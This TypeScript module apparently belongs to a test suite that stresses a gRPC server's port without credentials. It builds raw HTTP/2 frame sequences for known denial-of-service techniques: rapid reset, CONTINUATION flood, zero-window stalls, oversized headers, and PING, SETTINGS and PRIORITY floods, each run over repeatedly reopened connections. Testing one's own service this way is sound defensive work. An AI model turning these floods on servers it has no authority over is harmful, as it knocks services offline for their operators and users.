/** What can be done to the gRPC port without any credential, frame by frame (RFC 9113). */
import type { Socket } from "node:net";
import { attackedPort, renewed } from "./port-attacks.js";
import {
  CHECK_HEADERS,
  checkFrames,
  CONNECTION_PREFACE,
  field,
  FLAG,
  FRAME,
  frame,
  resetFrame,
} from "./raw-http2.js";
import type { Attack } from "./steady-checks.js";

const STREAMS = 100;
const FLOOD_BYTES = 64 * 1024;

/** Connections that say nothing, and come back when they are closed. */
export function silentConnections(address: string, connections: number): Attack {
  return held(address, connections);
}

/** Connections that begin HTTP/2 and ask nothing. */
export function idleConnections(address: string, connections: number): Attack {
  return held(address, connections, CONNECTION_PREFACE);
}

/** Connections that each begin 100 requests and finish none. */
export function unfinishedRequests(address: string, connections: number): Attack {
  const begun = streams(STREAMS).map((stream) =>
    frame(FRAME.headers, FLAG.endHeaders, stream, CHECK_HEADERS),
  );
  return held(address, connections, CONNECTION_PREFACE, ...begun);
}

/** Connections that each ask 100 times and let no answer come: their window is zero. */
export function unreadAnswers(address: string, connections: number): Attack {
  const initialWindowSize = Buffer.from([0, 4, 0, 0, 0, 0]);
  return held(
    address,
    connections,
    CONNECTION_PREFACE,
    frame(FRAME.settings, FLAG.none, 0, initialWindowSize),
    ...streams(STREAMS).map((stream) => checkFrames(stream)),
  );
}

/** Connections that each ask as many times and take each request back at once. */
export function rapidResets(address: string, connections: number, resets: number): Attack {
  const takenBack = streams(resets).flatMap((stream) => [checkFrames(stream), resetFrame(stream)]);
  return held(address, connections, CONNECTION_PREFACE, ...takenBack);
}

/** Connections that each send 20 requests with 64 KiB of headers: four times what is read. */
export function largeHeaders(address: string, connections: number): Attack {
  const large = field("x-large", "x".repeat(16_000));
  const requests = streams(20).flatMap((stream) => [
    frame(FRAME.headers, FLAG.none, stream, CHECK_HEADERS),
    ...Array.from({ length: 3 }, () => frame(FRAME.continuation, FLAG.none, stream, large)),
    frame(FRAME.continuation, FLAG.endHeaders, stream, large),
  ]);
  return held(address, connections, CONNECTION_PREFACE, ...requests);
}

/** Connections that never end the headers of their one request. */
export function continuationFlood(address: string, connections: number): Attack {
  const begin = frame(FRAME.headers, FLAG.none, 1, CHECK_HEADERS);
  return flood(
    address,
    connections,
    frame(FRAME.continuation, FLAG.none, 1, field("a", "b")),
    begin,
  );
}

/** Connections that send PINGs, whose answers they read or do not. */
export function pingFlood(address: string, connections: number): Attack {
  return flood(address, connections, frame(FRAME.ping, FLAG.none, 0, Buffer.alloc(8)));
}

/** Connections that send SETTINGS, each of which has to be acknowledged. */
export function settingsFlood(address: string, connections: number): Attack {
  return flood(address, connections, frame(FRAME.settings, FLAG.none, 0));
}

/** Connections that send frames which ask for nothing. */
export function priorityFlood(address: string, connections: number): Attack {
  const priority = frame(FRAME.priority, FLAG.none, 1, Buffer.from([0, 0, 0, 0, 16]));
  return flood(address, connections, priority);
}

/** Sends these bytes on each connection, and no more. */
function held(address: string, connections: number, ...bytes: readonly Buffer[]): Attack {
  const all = Buffer.concat(bytes);
  return renewed(
    attackedPort(address),
    connections,
    (socket) => {
      socket.resume();
      if (all.length > 0) socket.write(all);
    },
    "when closed",
  );
}

/** Sends the frame again and again, as fast as the server takes it. */
function flood(address: string, connections: number, one: Buffer, begin?: Buffer): Attack {
  const many = Buffer.concat(Array.from({ length: FLOOD_BYTES / one.length }, () => one));
  const pour = (socket: Socket): void => {
    if (socket.writable) socket.write(many);
  };
  return renewed(
    attackedPort(address),
    connections,
    (socket) => {
      socket.resume();
      socket.on("drain", () => pour(socket));
      socket.write(Buffer.concat([CONNECTION_PREFACE, ...(begin === undefined ? [] : [begin])]));
      pour(socket);
    },
    "when closed",
  );
}

/** The first ones that a client may open. */
function streams(count: number): readonly number[] {
  return Array.from({ length: count }, (_, index) => 2 * index + 1);
}
